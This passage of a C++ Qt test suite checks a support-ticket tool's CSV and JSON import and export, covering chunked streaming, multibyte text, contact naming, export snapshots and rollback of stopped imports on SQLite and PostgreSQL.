        QCOMPARE(store.messages(*id).first().direction, u"customer"_s);
    }
}

void TestImportExport::settlesAsMessageByMessage_data()
{
    // Conversations as an import writes them (all at once, at the end) must be what adding their
    // messages one by one, in time order, makes of them: heat, peak, times, status and wait.
    QTest::addColumn<QString>("engine");
    QTest::addColumn<QByteArray>("rows"); // ticket,direction,created_at,body
    const QList<std::pair<const char *, QByteArray>> cases{
        {"customer twice", "1,customer,2026-03-01T09:00:00Z,Where is my order?\n1,customer,2026-03-01T10:00:00Z,ES LA TERCERA VEZ QUE ESCRIBO, inútiles!!!\n"},
        {"answered", "2,customer,2026-03-01T09:00:00Z,My card was charged twice\n2,agent,2026-03-01T09:30:00Z,Sorry about that, refunded.\n"},
        {"answered, then again", "3,customer,2026-03-01T09:00:00Z,This is a disgrace!!!\n3,agent,2026-03-01T09:30:00Z,We are on it.\n"
                                 "3,customer,2026-03-01T11:00:00Z,Still nothing\n3,customer,2026-03-01T12:00:00Z,thanks anyway\n"},
        {"only our message", "4,agent,2026-03-01T09:00:00Z,Your parcel has shipped.\n"},
        {"calm after hot", "5,customer,2026-03-01T09:00:00Z,You are useless liars, I want my money NOW!!!\n"
                           "5,customer,2026-03-01T09:05:00Z,ok, thank you for sorting it out\n"},
        {"two tickets interleaved", "6,customer,2026-03-01T09:00:00Z,Hola, ¿y mi pedido?\n7,customer,2026-03-01T09:01:00Z,Need an invoice\n"
                                    "6,agent,2026-03-01T09:02:00Z,Ya sale hoy.\n7,customer,2026-03-01T09:03:00Z,Hello??\n"},
    };
    for (const QString &engine : {u"sqlite"_s, u"postgresql"_s}) {
        for (const auto &[name, rows] : cases)
            QTest::addRow("%s %s", name, qPrintable(engine)) << engine << rows;
    }
}

void TestImportExport::settlesAsMessageByMessage()
{
    QFETCH(QString, engine);
    QFETCH(QByteArray, rows);
    const auto imported = fresh(engine);
    QVERIFY(imported);
    QByteArray csv = "ticket_id,direction,created_at,body\n";
    for (const QByteArray &line : rows.split('\n')) {
        const QList<QByteArray> f = line.split(',');
        if (f.size() >= 4)
            csv += f.at(0) + ',' + f.at(1) + ',' + f.at(2) + ",\"" + line.mid(f.at(0).size() + f.at(1).size() + f.at(2).size() + 3) + "\"\n";
    }
    const ImportReport report = Importer(imported, m_analyzer).importData(csv, u"t.csv"_s, ImportFormat::Csv);
    QVERIFY2(report.ok, qPrintable(report.error));
    auto state = [](const std::shared_ptr<Database> &db) {
        QSqlQuery q(db->connection());
        q.exec(u"SELECT external_id, status, COALESCE(waiting_since_ms, -1), heat, peak_heat, COALESCE(last_customer_ms, -1), "
               u"COALESCE(last_message_ms, -1), COALESCE(language, '') FROM conversations ORDER BY external_id"_s);
        QStringList lines;
        while (q.next()) {
            QStringList values;
            for (int c = 0; c < 8; ++c)
                values << q.value(c).toString();
            lines << values.join(u' ');
        }
        return lines;
    };
    const QStringList got = state(imported);
    // The same messages added one by one, in time order.
    const auto oneByOne = fresh(engine);
    QVERIFY(oneByOne);
    const ConversationStore store(oneByOne);
    QHash<QString, qint64> conversations;
    for (const QByteArray &line : rows.split('\n')) {
        if (line.isEmpty())
            continue;
        const QList<QByteArray> f = line.split(',');
        const QString ticket = QString::fromUtf8(f.at(0)), body = QString::fromUtf8(line.mid(f.at(0).size() + f.at(1).size() + f.at(2).size() + 3));
        const qint64 sent = QDateTime::fromString(QString::fromUtf8(f.at(2)), Qt::ISODate).toMSecsSinceEpoch();
        const bool agent = f.at(1) == "agent";
        QString error;
        if (!conversations.contains(ticket)) {
            const auto id = store.addConversation({ticket, {}, {}, {}, body.left(80), u"email"_s, u"open"_s, sent}, &error);
            QVERIFY2(id, qPrintable(error));
            conversations.insert(ticket, *id);
        }
        QVERIFY2(store.addMessage({conversations.value(ticket), {}, agent ? u"agent"_s : u"customer"_s, {}, body, sent,
                                   agent ? std::nullopt : std::optional<ToneReport>(m_analyzer->analyze(body))}, &error),
                 qPrintable(error));
    }
    QCOMPARE(got, state(oneByOne));
}

void TestImportExport::subjectsAndNamesFromRows()
{
    // A ticket without a subject takes the start of its first message, cut between words: a redacted
    // export must not carry half a DNI ("mi DNI es 123") that the redactor cannot know. Within a ticket,
    // the contact is named by the latest row that gives a name, not by the first row.
    QFETCH(QString, engine);
    const auto db = fresh(engine);
    QVERIFY(db);
    const QByteArray data = "ticket_id,body,name,email,created_at\n"
                            "t1,\"Buenas tardes, les escribo otra vez por la factura de marzo y mi DNI es 12345678Z por si lo necesitan\",,"
                            "ana@example.com,2026-03-01T10:00:00Z\n"
                            "t1,Sigo esperando,Ana,ana@example.com,2026-03-02T10:00:00Z\n"
                            "t1,¿Alguien me contesta?,Ana Ruiz,ana@example.com,2026-03-03T10:00:00Z\n"
                            "t1,Gracias,,ana@example.com,2026-03-04T10:00:00Z\n";
    const ImportReport report = Importer(db, m_analyzer).importData(data, u"names.csv"_s, ImportFormat::Csv);
    QVERIFY2(report.ok, qPrintable(report.error));
    const ConversationStore store(db);
    const QList<ConversationSummary> inbox = store.inbox({.nowMs = 1'800'000'000'000});
    QCOMPARE(inbox.size(), 1);
    QCOMPARE(inbox.first().customer, u"Ana Ruiz"_s);
    const QString subject = inbox.first().subject;
    QVERIFY2(subject.size() <= 81 && subject.endsWith(u'…'), qPrintable(subject));
    QVERIFY2(u"Buenas tardes, les escribo otra vez por la factura de marzo y mi DNI es 12345678Z"_s.startsWith(subject.chopped(1)),
             qPrintable(subject));
    QVERIFY2(!subject.contains(u"123"_s) || subject.contains(u"12345678Z"_s), qPrintable(subject));
}

void TestImportExport::streamsInChunks()
{
    // More rows than a chunk (and a file that crosses a read block): every row is written once, the
    // ticket's messages in order, the same id with another text far apart is still found, and rows
    // left out are listed in the file's order.
    QFETCH(QString, engine);
    const auto db = fresh(engine);
    QVERIFY(db);
    QByteArray data = "ticket_id,message_id,body,created_at\n";
    const int rows = 9000;
    for (int i = 0; i < rows; ++i)
        data += QByteArray::number(i / 3) + ",m" + QByteArray::number(i) + ",\"Message " + QByteArray::number(i)
            + ", with a comma\nand a line break\"," + QDateTime::fromMSecsSinceEpoch(1'780'000'000'000 + i * 1000LL, QTimeZone::utc())
                                                          .toString(Qt::ISODate).toLatin1() + '\n';
    ImportReport report = Importer(db, m_analyzer).importData(data, u"many.csv"_s, ImportFormat::Csv);
    QVERIFY2(report.ok, qPrintable(report.error));
    QCOMPARE(report.messagesAdded, rows);
    QCOMPARE(report.conversationsAdded, rows / 3);
    const ConversationStore store(db);
    const QList<StoredMessage> last = store.messages(*store.conversationByExternalId(QString::number(rows / 3 - 1)));
    QCOMPARE(last.size(), 3);
    QCOMPARE(last.last().body, u"Message %1, with a comma\nand a line break"_s.arg(rows - 1));
    // A clash 8,000 rows after the first use of the id, and bad rows on both sides of a chunk's end.
    QByteArray clash = "ticket_id,message_id,body,created_at\n";
    for (int i = 0; i < 8200; ++i) {
        const bool bad = i == 4095 || i == 4097;
        clash += "c" + QByteArray::number(i) + ",x" + QByteArray::number(i) + "," + (bad ? QByteArray(" ") : QByteArray("text ") + QByteArray::number(i))
            + ",2026-05-01T10:00:00Z\n";
    }
    clash += "c5,x5,another text,2026-05-01T10:00:00Z\n";
    report = Importer(db, m_analyzer).importData(clash, u"clash.csv"_s, ImportFormat::Csv);
    QVERIFY(!report.ok);
    QCOMPARE(report.error, u"clash.csv:4097 (body): empty message text"_s);
    ImportOptions skip;
    skip.skipBadRows = true;
    report = Importer(db, m_analyzer).importData(clash, u"clash.csv"_s, ImportFormat::Csv, skip);
    QVERIFY2(report.ok, qPrintable(report.error));
    QCOMPARE(report.skipped, (QStringList{u"clash.csv:4097 (body): empty message text"_s, u"clash.csv:4099 (body): empty message text"_s,
                                          u"clash.csv:8202 (message_id): message id \"x5\" is used again with another text (first on line 7)"_s}));
    QCOMPARE(report.messagesAdded, 8198);
    QCOMPARE(store.messageCount(), qint64(rows + 8198));
}

void TestImportExport::readsAcrossBlocks_data()
{
    // Files of some megabytes, read a megabyte at a time: characters of two, three and four bytes,
    // CRLF, quotes and line breaks land on the blocks' edges somewhere, and every row must come out whole.
    QTest::addColumn<QByteArray>("data");
    QTest::addColumn<int>("format");
    const QByteArray texts[] = {"Añoranza, ¿dónde está mi pedido?", "Der Bär — “smart quotes” 😡😡", "日本語のテキスト、です", "plain words only"};
    QByteArray csv = "ticket_id,message_id,body\r\n", lines, json = "{\"count\": 3, \"tickets\": [\n";
    for (int i = 0; i < 24000; ++i) {
        const QByteArray body = texts[i % 4] + ' ' + QByteArray::number(i);
        csv += QByteArray::number(i / 4) + ",m" + QByteArray::number(i) + ",\"" + body + "\nline two \"\"quoted\"\"\"\r\n";
        const QByteArray object = "{\"ticket_id\": \"" + QByteArray::number(i / 4) + "\", \"message_id\": \"m" + QByteArray::number(i)
            + "\", \"body\": \"" + body + "\\nline two \\\"quoted\\\"\"}";
        lines += object + '\n';
        json += (i ? ",\n  " : "  ") + object;
    }
    json += "\n], \"meta\": {\"nested\": [1, [2, \"]\"]]}}\n";
    QTest::newRow("CSV with CRLF") << csv << int(ImportFormat::Csv);
    QTest::newRow("JSON Lines") << lines << int(ImportFormat::JsonLines);
    QTest::newRow("JSON object") << json << int(ImportFormat::Json);
}

void TestImportExport::readsAcrossBlocks()
{
    QFETCH(QByteArray, data);
    QFETCH(int, format);
    QVERIFY(data.size() > 3 * 1024 * 1024 / 2); // more than one block
    const auto db = fresh(u"sqlite"_s);
    QVERIFY(db);
    const ImportReport report = Importer(db, m_analyzer).importData(data, u"blocks"_s, ImportFormat(format));
    QVERIFY2(report.ok, qPrintable(report.error));
    QCOMPARE(report.messagesAdded, 24000);
    QSqlQuery q(db->connection());
    QVERIFY(q.exec(u"SELECT external_id, body FROM messages"_s));
    const QStringList texts{u"Añoranza, ¿dónde está mi pedido?"_s, u"Der Bär — “smart quotes” 😡😡"_s, u"日本語のテキスト、です"_s, u"plain words only"_s};
    int checked = 0;
    while (q.next()) {
        const int i = q.value(0).toString().mid(1).toInt();
        QCOMPARE(q.value(1).toString(), texts.at(i % 4) + u' ' + QString::number(i) + u"\nline two \"quoted\""_s);
        ++checked;
    }
    QCOMPARE(checked, 24000);
}

void TestImportExport::contactsAcrossBatches()
{
    // Conversations are made some hundreds of tickets at a time: a customer's contact is one per
    // address across all of them, named by the latest conversation that gives a name.
    QFETCH(QString, engine);
    const auto db = fresh(engine);
    QVERIFY(db);
    QVERIFY(Importer(db, m_analyzer).importData("ticket_id,body,name,email\nold,hello,Before,c3@example.com\n", u"old.csv"_s, ImportFormat::Csv).ok);
    QByteArray data = "ticket_id,body,name,email\n";
    QHash<int, QString> latest{{3, u"Before"_s}};
    for (int t = 0; t < 1300; ++t) {
        const int customer = t % 7;
        const QByteArray name = t % 3 == 0 ? QByteArray() : "Customer " + QByteArray::number(customer) + " v" + QByteArray::number(t);
        data += "t" + QByteArray::number(t) + ",message " + QByteArray::number(t) + ',' + name + ",c" + QByteArray::number(customer) + "@example.com\n";
        if (!name.isEmpty())
            latest[customer] = QString::fromUtf8(name);
    }
    const ImportReport report = Importer(db, m_analyzer).importData(data, u"batches.csv"_s, ImportFormat::Csv);
    QVERIFY2(report.ok, qPrintable(report.error));
    QCOMPARE(report.conversationsAdded, 1300);
    QSqlQuery q(db->connection());
    QVERIFY(q.exec(u"SELECT email, name, (SELECT COUNT(*) FROM conversations v WHERE v.contact_id = c.id) FROM contacts c ORDER BY email"_s));
    int contacts = 0, conversations = 0;
    while (q.next()) {
        const int customer = q.value(0).toString().mid(1, 1).toInt();
        QCOMPARE(q.value(1).toString(), latest.value(customer));
        conversations += q.value(2).toInt();
        ++contacts;
    }
    QCOMPARE(contacts, 7);
    QCOMPARE(conversations, 1301);
}

namespace {

// An output that, the first time the exporter writes to it (its conversations are read, their messages
// not yet), lets another connection import more messages into them.
class Interrupting : public QBuffer
{
public:
    explicit Interrupting(std::function<void()> meanwhile) : m_meanwhile(std::move(meanwhile)) {}

protected:
    qint64 writeData(const char *data, qint64 size) override
    {
        if (m_meanwhile)
            std::exchange(m_meanwhile, {})();
        return QBuffer::writeData(data, size);
    }

private:
    std::function<void()> m_meanwhile;
};

} // namespace

void TestImportExport::exportReadsOneSnapshot()
{
    // An export carries one state of the database: what another connection commits while it runs is
    // in none of it, not in the conversations it had not reached yet.
    QFETCH(QString, engine);
    const auto db = fresh(engine);
    QVERIFY(db);
    QVERIFY(Importer(db, m_analyzer).importData("ticket_id,message_id,body\nA,a1,first\nB,b1,second\n", u"one.csv"_s, ImportFormat::Csv).ok);
    bool imported = false;
    Interrupting out([&] {
        QThread *other = QThread::create([&] { // a thread of its own: a connection of its own
            imported = Importer(db, m_analyzer).importData("ticket_id,message_id,body\nB,b2,later\nC,c1,new\n", u"two.csv"_s, ImportFormat::Csv).ok;
        });
        other->start();
        other->wait();
        delete other;
    });
    QVERIFY(out.open(QIODevice::WriteOnly));
    QString error;
    const qint64 written = Exporter(db).write(out, {ExportFormat::Csv, false, {}}, &error);
    QVERIFY2(written >= 0, qPrintable(error));
    QVERIFY(imported);
    QCOMPARE(written, 2);
    QVERIFY(!out.data().contains("later"));
    QCOMPARE(ConversationStore(db).messageCount(), 4);
}

void TestImportExport::demoData()
{
    QFETCH(QString, engine);
    const auto db = fresh(engine);
    QVERIFY(db);
    const DemoLoad load = DemoData::load(db, *m_analyzer);
    QVERIFY2(load.ok, qPrintable(load.error));
    QVERIFY(load.conversations >= 200);
    const DemoLoad again = DemoData::load(db, *m_analyzer);
    QCOMPARE(again.conversations, 0);
    const ConversationStore store(db);
    QList<int> levels(4, 0);
    QSet<QString> languages;
    for (const ConversationSummary &c : store.inbox({.statuses = {}, .limit = 1000})) {
        ++levels[int(levelForHeat(c.heat))];
        languages.insert(c.language);
    }
    for (int count : levels)
        QVERIFY(count >= 10);
    QVERIFY(languages.contains(u"es"_s) && languages.contains(u"en"_s));
}


void TestImportExport::unfinishedImportIsInvisible()
{
    // An import that has written part of its rows (on SQLite committed, batch by batch; on PostgreSQL in
    // its open transaction) shows nothing of them to another connection — counts, inbox, search,
    // export, the conversation it adds a message to, its contact's new name — and everything once done.
    QFETCH(QString, engine);
    const auto db = fresh(engine);
    QVERIFY(db);
    const Importer importer(db, m_analyzer);
    QVERIFY(importer.importData(kGoodCsv, u"zendesk.csv"_s, ImportFormat::Csv).ok);
    const QString url = db->url().display();
    const Shown before = shown(url);
    QCOMPARE(before.conversations, 2);
    QCOMPARE(before.messages, 3);
    QCOMPARE(before.ofConversation1001, 2);
    QCOMPARE(before.customerOf1001, u"Ana López"_s);
    QCOMPARE(before.found, 0);
    QVERIFY(!before.newTicketKnown);
    const qint64 rawBefore = rawRows(*db, u"messages"_s);
    constexpr int kRows = 12000; // three chunks and more
    int checks = 0;
    qint64 writtenMidway = 0, rawMidway = 0;
    Shown midway;
    ImportOptions options;
    options.written = [&](qint64 written) {
        if (checks++ == 0) {
            writtenMidway = written;
            midway = shown(url);
            const auto other = test::openDatabase(url);
            rawMidway = other ? rawRows(*other, u"messages"_s) : -1;
        }
        return true;
    };
    const ImportReport report = importer.importData(batchedCsv(kRows), u"batched.csv"_s, ImportFormat::Csv, options);
    QVERIFY2(report.ok, qPrintable(report.error));
    QCOMPARE(report.messagesAdded, kRows + 2);
    QVERIFY(checks >= 1);
    QVERIFY(writtenMidway > 0);
    if (engine == u"sqlite")
        QVERIFY2(rawMidway >= rawBefore + writtenMidway, "the rows were not committed yet: nothing was tested");
    QCOMPARE(midway.conversations, before.conversations);
    QCOMPARE(midway.messages, before.messages);
    QCOMPARE(midway.inbox, before.inbox);
    QCOMPARE(midway.found, 0);
    QCOMPARE(midway.exported, before.exported);
    QCOMPARE(midway.ofConversation1001, before.ofConversation1001);
    QCOMPARE(midway.statusOf1001, before.statusOf1001);
    QCOMPARE(midway.customerOf1001, u"Ana López"_s);
    QVERIFY(!midway.newTicketKnown);
    const Shown after = shown(url);
    QCOMPARE(after.conversations, 2 + kRows / 3 + 1);
    QCOMPARE(after.messages, 3 + kRows + 2);
    QCOMPARE(after.exported, 3 + kRows + 2);
    QVERIFY(after.found > 0);
    QCOMPARE(after.ofConversation1001, 3);
    QCOMPARE(after.customerOf1001, u"Ana María López"_s);
    QVERIFY(after.newTicketKnown);
}

void TestImportExport::stoppedImportLeavesNothing_data()
{
    QTest::addColumn<QString>("engine");
    QTest::addColumn<bool>("cancel"); // cancelled once rows are written, else a later row fails
    for (const QString &engine : {u"sqlite"_s, u"postgresql"_s}) {
        QTest::newRow(qPrintable(engine + u", cancelled while writing"_s)) << engine << true;
        QTest::newRow(qPrintable(engine + u", failed after some batches"_s)) << engine << false;
    }
}

void TestImportExport::stoppedImportLeavesNothing()
{
    // An import stopped after it has written batches — cancelled, or refused by a row that clashes with
    // the database near its end — leaves no row of any table behind, and no entry in its journal.
    QFETCH(QString, engine);
    QFETCH(bool, cancel);
    const auto db = fresh(engine);
    QVERIFY(db);
    const Importer importer(db, m_analyzer);
    QVERIFY(importer.importData(kGoodCsv, u"zendesk.csv"_s, ImportFormat::Csv).ok);
    const QStringList tables{u"messages"_s, u"conversations"_s, u"contacts"_s, u"imports"_s};
    QList<qint64> before;
    for (const QString &table : tables)
        before << rawRows(*db, table);
    QByteArray data = batchedCsv(12000);
    ImportOptions options;
    qint64 written = 0;
    if (cancel) {
        options.written = [&](qint64 n) {
            written = n;
            return false;
        };
    } else {
        // The last row gives a message of 1002 that is in the database already another text.
        const ImportReport first = importer.importData("Ticket ID,Message ID,Description\n1002,m-1,first text\n", u"one.csv"_s,
                                                       ImportFormat::Csv, {.columns = {{u"message-id"_s, u"Message ID"_s}}});
        QVERIFY2(first.ok, qPrintable(first.error));
        before.clear();
        for (const QString &table : tables)
            before << rawRows(*db, table);
        data = "Ticket ID,Message ID,Description\n";
        for (int i = 0; i < 12000; ++i)
            data += "N-" + QByteArray::number(i / 3) + ",n-" + QByteArray::number(i) + ",la zanahoria número " + QByteArray::number(i) + "\n";
        data += "1002,m-1,another text\n";
        options.columns = {{u"message-id"_s, u"Message ID"_s}};
        options.written = [&](qint64 n) {
            written = n;
            return true;
        };
    }
    const ImportReport report = importer.importData(data, u"stopped.csv"_s, ImportFormat::Csv, options);
    QVERIFY(!report.ok);
    QVERIFY(written > 0); // it had written rows before it stopped
    if (cancel)
        QVERIFY(report.cancelled);
    else
        QVERIFY2(report.error.contains(u"stopped.csv:12002"_s) && report.error.contains(u"already in the database with another text"_s),
                 qPrintable(report.error));
    for (qsizetype i = 0; i < tables.size(); ++i)
        QCOMPARE(rawRows(*db, tables.at(i)), before.at(i));
    const ConversationStore store(db);
    QCOMPARE(store.search(u"zanahoria"_s, 10).size(), 0);
}

QTEST_GUILESS_MAIN(TestImportExport)
#include "tst_importexport.moc"
